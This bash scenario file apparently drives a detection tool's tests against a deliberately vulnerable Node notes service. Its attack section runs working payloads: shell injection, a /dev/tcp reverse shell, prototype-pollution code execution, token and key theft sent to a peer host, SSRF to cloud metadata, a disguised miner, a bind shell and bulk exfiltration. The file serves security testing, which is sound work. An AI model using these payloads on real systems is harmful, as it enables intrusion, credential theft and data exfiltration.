# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# A service of notes and files in Node (node/server.js): templates, sessions, a worker thread, a mailer of its own
# process, tools of the shell for reports, a peer to publish to. It runs as user 1000.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=test containers=(node) port=8080 data_directory=/var/lib/notes
configuration_file=/etc/notes/notes.conf
health=(/usr/bin/node -e 'fetch("http://127.0.0.1:8080/health").then((r) => process.exit(r.ok ? 0 : 1))')
image_packages=(nodejs bash coreutils findutils grep gzip dash util-linux mount base-files libc-bin tzdata hostname)
rare_own=(debugger heap_snapshot operator_script large_upload new_template users_changed mail_host_gone restore)

note_ids=()

# The users' passwords are those that the requests have.
# shellcheck disable=SC2016
image_prepare() {
	local tree=$1 i user data=$1/var/lib/notes
	mkdir -p "$tree"/srv/notes "$tree"/etc/notes "$data"/{notes,files} "$tree"/var/log/notes "$tree"/home/node/.ssh
	cp -r "$here"/services/node/. "$tree/srv/notes/"
	echo node:x:1000:1000::/home/node:/bin/bash >>"$tree/etc/passwd"
	echo node:x:1000: >>"$tree/etc/group"
	ln -sf /usr/share/zoneinfo/Etc/UTC "$tree/etc/localtime"
	for i in $(seq 40); do
		jq -nc --arg id "$i" --arg title "Note $i" --arg body "$(seq -s ' ' $((i * 20)))" \
			'{$id, $title, $body, tags: ["home", "seed"], changed: 1700000000000}' >"$data/notes/$i.json"
	done
	for i in 1 4 16 64 256; do
		head -c "${i}K" /dev/urandom | base64 >"$data/files/list$i.txt"
	done
	echo '{"theme": "light"}' >"$data/settings.json"
	for user in anna:secret bert:letmein admin:sunshine7; do
		env -i PATH="$PATH" chroot "$tree" /usr/bin/node -e 'const [user, password] = process.argv[1].split(":"), salt = `salt of ${user}`
			const hash = require("crypto").scryptSync(password, salt, 32, { N: 1024 }).toString("hex")
			console.log(JSON.stringify({ [user]: { salt, hash } }))' "$user"
	done | jq -s add >"$tree/etc/notes/users.json"
	cat >"$tree/etc/notes/notes.conf" <<-'CONF'
	# notes
	port = 8080
	publish = http://peer.example:8000/notes
	mail_host = peer.example
	mail_port = 2525
	CONF
	openssl genpkey -algorithm ed25519 -out "$tree/home/node/.ssh/id_ed25519" 2>/dev/null
	echo '//registry.example/:_authToken=npm-secret-token' >"$tree/home/node/.npmrc"
	chown -R 1000:1000 "$data" "$tree/var/log/notes" "$tree/home/node"
	chmod 600 "$tree"/home/node/.ssh/id_ed25519 "$tree"/home/node/.npmrc
}

container_fields() {
	user=1000:1000 directory=/var/lib/notes capabilities=()
	arguments=(/usr/bin/node --heapsnapshot-signal=SIGWINCH /srv/notes/server.js)
	environment+=(NODE_ENV=production HOME=/home/node NOTES_TOKEN=token-of-the-peer)
	volumes=(/var/lib/notes /var/log/notes)
}

peers() {
	world_begin
}

ready() {
	fetch /health -o /dev/null
}

# send METHOD PATH JSON
send() {
	fetch "$2" -X "$1" -H 'content-type: application/json' --data-binary "$3"
}

new_note() {
	local id
	id=$(send POST /notes "{\"title\": \"note $RANDOM\", \"body\": \"$(seq -s ' ' "$1")\", \"tags\": [\"new\"]}" |
		jq -r .id)
	note_ids+=("$id")
}

# A note that is there: of the image, or of this run.
some_note() {
	if [ "${#note_ids[@]}" -gt 0 ] && chance 50; then
		pick "${note_ids[@]}"
	else
		between 1 40
	fi
}

log_in() {
	send POST /login "{\"user\": \"$1\", \"password\": \"$2\"}" | jq -r .token
}

request() {
	local n id
	n=$(between 1 40)
	id=$(some_note)
	case $((RANDOM % 18)) in
	0) fetch / -o /dev/null ;;
	1 | 2) fetch "/notes/$id" -o /dev/null ;;
	3) fetch "/notes/$id/print" -o /dev/null ;;
	4) fetch "/notes?q=$n" -o /dev/null ;;
	5 | 6) new_note $((n * 10)) ;;
	7) send PUT "/notes/$id" "{\"body\": \"changed $RANDOM\"}" ;;
	8) delete_note ;;
	9) fetch /me -H "Authorization: Bearer $(log_in "$(pick anna bert)" "$(pick secret letmein)")" ;;
	10) send POST /filter "{\"expression\": \"note.title.includes('$n')\"}" ;;
	11) send PATCH /settings "{\"theme\": \"$(pick light dark)\", \"page\": {\"margin\": $n}}" ;;
	12) head -c "$((n * 2000))" /dev/zero | client_stdin curl -sS -T - "http://$own_address:$port/files/file$n.txt" ;;
	13) fetch "/files/list$((4 ** (RANDOM % 5))).txt" -o /dev/null ;;
	14) fetch "/digest/list$((4 ** (RANDOM % 5))).txt" ;;
	15) fetch "/report/list$((4 ** (RANDOM % 5))).txt" ;;
	16) send POST "/publish/$id" '' ;;
	17) rare_kinds_of_work "$n" ;;
	esac
}

# What is asked for less often than the rest.
rare_kinds_of_work() {
	case $((RANDOM % 5)) in
	0) send POST /mail "{\"to\": \"user$1@peer.example\", \"subject\": \"note\", \"text\": \"text $1\"}" ;;
	1) send POST /import "{\"url\": \"http://peer.example:8000/items/$1\"}" ;;
	2) fetch /files ;;
	3) send POST /views '{"home": {"pick": "function:(n) => n.tags.includes(\"home\")"}}' && fetch /views/home ;;
	4) fetch "/none/$1" ;;
	esac
}

delete_note() {
	[ "${#note_ids[@]}" -gt 3 ] || return 0
	fetch "/notes/${note_ids[0]}" -X DELETE
	note_ids=("${note_ids[@]:1}")
}

reload_service() {
	container_signal node HUP
}

# The logs are rotated, and the configuration is read again.
administer() {
	local logs
	logs=$(volume_path node /var/log/notes)
	mv "$logs/access.log" "$logs/access.log.1"
	container_signal node USR2
	reload_service
}

# ---- rare events ----

# The debugger is opened by its signal, and asked what it can debug.
rare_debugger() {
	lasts # nothing outside can close its port
	container_signal node USR1
	sleep 1
	inside_network curl -sS http://127.0.0.1:9229/json
}

rare_heap_snapshot() {
	container_signal node WINCH
	sleep 5
	find "$(volume_path node /var/lib/notes)" -name '*.heapsnapshot' -size +100k -delete -print | grep -c .
}

rare_operator_script() {
	session node /usr/bin/node -e 'const fs = require("fs"), dir = "/var/lib/notes/notes/"
		console.log(fs.readdirSync(dir).filter((n) => n.endsWith(".json"))
			.map((n) => JSON.parse(fs.readFileSync(dir + n)).title).sort().join("\n"))'
}

rare_large_upload() {
	head -c 3M /dev/urandom | client_stdin curl -sS -T - "http://$own_address:$port/files/large.bin"
	fetch /digest/large.bin
}

rare_new_template() {
	keep_file node /srv/notes/templates/index.html
	undo reload_service
	local templates
	templates=$(image_path node /srv/notes/templates)
	sed 's,<h1>,<h1 class="new">,' "$templates/index.html" >"$templates/index.html.new"
	mv "$templates/index.html.new" "$templates/index.html"
	reload_service
	fetch / -o /dev/null
}

rare_users_changed() {
	keep_file node /etc/notes/users.json
	undo reload_service
	local users
	users=$(image_path node /etc/notes/users.json)
	jq '.carl = .anna' "$users" >"$users.new"
	mv "$users.new" "$users"
	reload_service
	sleep 1
	log_in carl secret
}

rare_mail_host_gone() {
	peer_stop world
	send POST /mail '{"to": "x@peer.example", "subject": "lost", "text": "lost"}'
	send POST /publish/1 ''
	sleep 3
	world_start
}

# Notes come back from a backup, and the service starts to use them.
rare_restore() {
	local data
	data=$(volume_path node /var/lib/notes)
	cp -r "$data/notes" "$stage/backup"
	rm -f "$data"/notes/1?.json
	fetch /notes/10
	cp -r "$stage/backup/." "$data/notes/"
	chown -R 1000:1000 "$data/notes"
	rm -r "$stage/backup"
	fetch /notes/10 -o /dev/null
}

# ---- attacks ----

# shell_command COMMAND: by the report, whose file name gets to a shell.
shell_command() {
	fetch "/report/$(quote "list1.txt; $1 #")"
}

# evaluate EXPRESSION: in the service's own process, by the filter of notes.
evaluate() {
	send POST /filter "$(jq -nc --arg expression "$1" '{$expression}')"
}

attack_command_injection() {
	harm exec '/usr/bin/id'
	harm read '/etc/passwd'
	shell_command 'id; cat /etc/passwd' | grep -c '^uid=1000'
}

attack_reverse_shell() {
	harm exec '/usr/bin/bash'
	harm connect "$peer_address:4444"
	thief_shell 'id; exit'
	shell_command "bash -c 'bash -i >& /dev/tcp/$peer_address/4444 0>&1'"
	thief_got uid=1000
}

# A merged setting reaches the prototype of all objects, and from there the program of a template.
attack_prototype_pollution() {
	harm exec '/usr/bin/id'
	harm write '/tmp/polluted'
	send PATCH /settings "$(jq -nc '{"__proto__": {local: "x = process.mainModule.require(\"child_process\")
		.execSync(\"id >/tmp/polluted\"), data"}}')"
	fetch /notes/1 -o /dev/null
	send PATCH /settings '{"__proto__": {"local": "data"}}'
	grep -q uid=1000 "$(image_path node /tmp/polluted)"
}

attack_evaluated_secret() {
	harm read '/proc/*/environ'
	evaluate 'require("fs").readFileSync("/proc/self/environ", "utf8")' | grep -c token-of-the-peer
}

# A view whose function is called as it is read.
attack_deserialisation() {
	harm read '/home/node/.npmrc'
	harm connect "$peer_address:4444"
	thief_begin
	send POST /views "$(jq -nc --arg pick "function:(() => { const stolen = require('fs').readFileSync('/home/node/.npmrc')
		require('net').connect(4444, '$peer_address').end(stolen) })()" '{stolen: {$pick}}')"
	thief_got npm-secret-token
}

attack_metadata() {
	harm connect '169.254.169.254:80'
	fetch "/notes/$(send POST /import '{"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/app"}' |
		jq -r .id)" | grep -c metadata-secret-key
}

attack_traversal() {
	harm read '/home/node/.ssh/id_ed25519'
	fetch "/files/$(quote ../../../../home/node/.ssh/id_ed25519)" | grep -c 'PRIVATE KEY'
}

attack_miner() {
	harm chmod '/tmp/kworker'
	harm exec '/tmp/kworker'
	harm connect "$peer_address:3333"
	pool_begin
	client_stdin curl -sS -T - "http://$own_address:$port/files/kworker" <"${miner:?}"
	shell_command "cp kworker /tmp/kworker; chmod 755 /tmp/kworker; /tmp/kworker $peer_address 3333 3"
	pool_got
}

attack_scan() {
	harm connect "$peer_address:[2-9][0-9]"
	evaluate "(globalThis.scanned ??= Array.from({ length: 80 }, (_, i) => require('net').connect(i + 20, '$peer_address')
		.on('error', () => 0).on('connect', function () { globalThis.open = i + 20; this.end() }))).length"
	sleep 2
	evaluate 'globalThis.open' | grep -c 53
}

attack_brute_force() {
	local word
	harm write '/var/log/notes/auth.log'
	for word in {sunshine,password,dragon,monkey}{1..9} ''; do
		[ "$(log_in admin "$word")" = null ] || return 0
	done
	return 1
}

attack_escape_namespace() {
	harm exec '/usr/bin/unshare'
	harm call unshare
	harm call mount
	shell_command 'mkdir /tmp/m; unshare -Urm sh -c "mount -t tmpfs none /tmp/m && cat /proc/self/mounts" 2>&1' |
		tee /dev/stderr | grep -c '^none /tmp/m'
}

attack_credentials() {
	harm read '/home/node/.ssh/*'
	harm read '/proc/*/environ'
	shell_command 'cat /home/node/.ssh/id_* /home/node/.npmrc /proc/[0-9]*/environ; find / -xdev -name "*.pem" -o -name "*.key"' |
		grep -ac 'PRIVATE KEY'
}

# A door of the attacker's own: who connects has its text evaluated.
attack_bind_shell() {
	harm bind '*:31337'
	evaluate "globalThis.door ??= require('net').createServer((s) => s.on('data', (d) => s.end(String(eval(String(d))))))
		.listen(31337, '0.0.0.0'), 1"
	until_true 10 port_listens 31337
	# shellcheck disable=SC2016
	client bash -c 'exec 3<>/dev/tcp/$0/31337 && echo "process.pid + process.version" >&3 && cat <&3' "$own_address" \
		>"$stage/door"
	evaluate 'globalThis.door.close(), 1'
	grep -q 1v "$stage/door"
}

# An uploaded library, mapped as a native module.
attack_native_module() {
	harm mapx '/var/lib/notes/files/addon.node'
	harm write '/tmp/addon'
	gcc -shared -fPIC -O1 -o "$stage/addon.node" -x c - <<-'C'
	#include <stdio.h>
	__attribute__((constructor)) static void on_load(void)
	{
		FILE *f = fopen("/tmp/addon", "w");

		if (f) {
			fputs("loaded\n", f);
			fclose(f);
		}
	}
	C
	client_stdin curl -sS -T - "http://$own_address:$port/files/addon.node" <"$stage/addon.node"
	evaluate 'process.dlopen({ exports: {} }, "/var/lib/notes/files/addon.node")'
	grep -q loaded "$(image_path node /tmp/addon)"
}

# A shell by code inside the process.
attack_code_shell() {
	harm exec '/usr/bin/id'
	harm write '/tmp/code'
	inject node server.js 'call (int) system("id >/tmp/code")'
	grep -q uid=1000 "$(image_path node /tmp/code)"
}

# ---- attacks that only do what the service does ----

known_ids() {
	evaluate true | jq -r '.[][0]'
}

adaptive_mass_reading() {
	local id
	harm read '/var/lib/notes/notes/*'
	for id in $(known_ids); do
		fetch "/notes/$id"
	done >"$stage/stolen"
	[ "$(grep -c '<pre>' "$stage/stolen")" -ge 40 ]
}

adaptive_exfiltration() {
	local id
	harm connect "$peer_address:8000"
	for id in $(known_ids); do
		send POST "/publish/$id" ''
	done >"$stage/answers"
	[ "$(grep -o 201 "$stage/answers" | wc -l)" -ge 40 ]
}

adaptive_tampering() {
	local id
	harm rename '/var/lib/notes/notes/*'
	for id in $(known_ids); do
		send PUT "/notes/$id" '{"title": "yours no more", "body": "pay"}'
	done >"$stage/answers"
	[ "$(grep -o 'yours no more' "$stage/answers" | wc -l)" -ge 40 ]
}

# Code in the process that uses no more than the service's own functions, and the peer that it knows.
adaptive_evaluated_exfiltration() {
	harm read '/var/lib/notes/notes/*'
	harm connect "$peer_address:8000"
	evaluate "(globalThis.stolen ??= Promise.all(require('fs').readdirSync('/var/lib/notes/notes').map((n) =>
		require('fs').promises.readFile('/var/lib/notes/notes/' + n))).then((all) => require('http').request(
		{ host: 'peer.example', port: 8000, path: '/stolen', method: 'POST' }).end(Buffer.concat(all)))) && 1"
	until_true 20 grep -q /stolen "$stage/peer-world.log"
}
